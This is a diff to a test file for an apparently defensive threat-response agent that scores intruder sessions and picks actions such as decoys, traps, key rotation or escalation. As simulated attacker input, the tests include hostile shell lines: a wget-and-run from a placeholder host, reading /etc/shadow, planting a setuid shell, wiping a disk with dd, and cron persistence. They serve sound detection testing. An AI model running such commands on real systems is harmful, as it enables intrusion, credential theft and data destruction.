@@ -1,8 +1,10 @@
-import { decisionSchema } from '@cerberusmesh/contracts';
+import { readFile } from 'node:fs/promises';
+import { DECISION_KINDS, decisionSchema } from '@cerberusmesh/contracts';
 import { describe, expect, it } from 'vitest';
 import { createAttackMapper } from '../detection/attack-mapper/attack-mapper.ts';
 import { emptyFacts, factsAfter, type Story, testEvent, testId } from '../detection/scoring/test-facts.ts';
 import { createAgent } from './decide.ts';
+import { TRIGGERS } from './triggers.ts';
 
 const mapper = createAttackMapper();
 const agent = createAgent();
@@ -98,15 +100,21 @@ describe('the agent', () => {
             kind: 'monitor',
             text: `Watching alone suits a score of ${facts.score.toFixed(2)}, but this evidence asks for an answer of its own.`,
           },
-          { kind: 'escalate', text: `The score of ${facts.score.toFixed(2)} is not above 0.9.` },
+          {
+            kind: 'launch_decoy',
+            text: `No privilege escalation, lateral movement or scanning from here; no tunnel asked for; the score of ${facts.score.toFixed(2)} is below 0.6.`,
+          },
+          { kind: 'insert_trap', text: 'No exploit attempt in a web request; no fetched code run.' },
+          { kind: 'escalate', text: `The score of ${facts.score.toFixed(2)} is not above 0.9; no harm done.` },
         ],
-        counterfactual: 'Fewer than 5 failed credentials in the session would have rotated nothing.',
+        counterfactual: '4 failed credentials instead of 6 would have rotated nothing for this.',
         policy: {
           threshold: 0.7,
           autoAction: false,
           text: 'Proposed: automatic action is off (confidence 0.70 is at or above the threshold 0.7).',
         },
-        agentVersion: '2026.2',
+        agentVersion: '2026.3',
+        coolDownSeconds: 3_600,
       },
     ]);
   });
@@ -136,16 +144,21 @@ describe('the agent', () => {
         evidence: ['login', 'command 0', 'command 1', 'opened'].map(testId),
         alternatives: [
           { kind: 'monitor', text: `The score of ${score} is not below 0.6.` },
-          { kind: 'escalate', text: `The score of ${score} is not above 0.9.` },
+          {
+            kind: 'rotate_key',
+            text: 'No keys, hashes or passwords read, planted or changed; no failed attempt beside the accepted login; 0 failed credentials of the 5 that make an attack.',
+          },
+          { kind: 'insert_trap', text: 'No exploit attempt in a web request; no fetched code run.' },
+          { kind: 'escalate', text: `The score of ${score} is not above 0.9; no harm done.` },
         ],
-        counterfactual:
-          'A score below 0.6, or any more specific trigger, would have launched no decoy for the score alone.',
+        counterfactual: `A score of 0.59 instead of ${score} would have launched no decoy for the score alone.`,
         policy: {
           threshold: 0.7,
           autoAction: false,
           text: `Proposed: automatic action is off (confidence ${score} is at or above the threshold 0.7).`,
         },
-        agentVersion: '2026.2',
+        agentVersion: '2026.3',
+        coolDownSeconds: 3_600,
       },
     ]);
   });
@@ -162,6 +175,60 @@ describe('the agent', () => {
     expect(decidedAt(0.91, watched)).toEqual(['critical-score']);
     expect(decidedAt(0.7, watched, { trigger: 'credential-attack', kind: 'rotate_key' })).toEqual([]);
     expect(decidedAt(0.7, { trigger: 'sustained-threat', kind: 'launch_decoy' })).toEqual([]);
+  });
+
+  it('says of every other kind why it is not that, and names what it decided beside', () => {
+    const facts = factsAfter(mapper, {
+      failedCredentials: 6,
+      login: true,
+      commands: ['wget http://192.0.2.9/x; sh x'],
+    });
+    const decisions = agent.decide(facts, closed);
+    for (const { kind, alternatives } of decisions)
+      expect(alternatives.map((other) => other.kind)).toEqual(DECISION_KINDS.filter((other) => other !== kind));
+    expect(decisions[0]?.alternatives.find(({ kind }) => kind === 'rotate_key')?.text).toBe(
+      'Decided on its own, for credential-reuse.',
+    );
+  });
+
+  it('names a fact that would have changed the outcome, and it would have', () => {
+    const stories: Story[] = [
+      {},
+      { failedCredentials: 9 },
+      { failedCredentials: 2, login: true },
+      { login: true, commands: ['cat /etc/shadow'] },
+      { login: true, commands: ['chmod u+s /tmp/sh'] },
+      { login: true, commands: ['wget http://192.0.2.9/x; sh x'] },
+      { login: true, commands: ['dd if=/dev/zero of=/dev/sda'] },
+      { login: true, commands: ['unset HISTFILE', 'echo "* * * * * /tmp/.x" | crontab -', 'uname -a; ps aux; id'] },
+    ];
+    const sessions = [
+      ...stories.map((story) => factsAfter(mapper, story)),
+      { ...factsAfter(mapper, { login: true }), score: 0.95 },
+      { ...factsAfter(mapper, { login: true }), tunnelCount: 2 },
+    ];
+    const fired = new Set<string>();
+    for (const facts of sessions) {
+      const decided = agent.decide(facts, closed);
+      for (const trigger of TRIGGERS) {
+        const decision = decided.find((one) => one.trigger === trigger.id);
+        if (decision === undefined) continue;
+        fired.add(trigger.id);
+        const otherwise = trigger.counterfactual(facts);
+        expect(decision.counterfactual).toBe(otherwise.text);
+        expect(agent.decide(otherwise.facts, closed).map(({ trigger: id }) => id)).not.toContain(trigger.id);
+      }
+    }
+    // Command injection needs a web request; the mapper's own tests have some.
+    expect(TRIGGERS.map(({ id }) => id).filter((id) => !fired.has(id))).toEqual(['command-injection']);
+  });
+
+  it('has its triggers and their cool-downs on the page about them', async () => {
+    const page = await readFile(new URL('../../../../docs/response.md', import.meta.url), 'utf8');
+    for (const { id, kind, coolDownSeconds } of TRIGGERS)
+      expect(page).toContain(
+        `| \`${id}\` | ${kind} | ${coolDownSeconds === 0 ? 'none' : `${coolDownSeconds / 60} min`} |`,
+      );
   });
 
   it('asks nobody for permission to watch', () => {
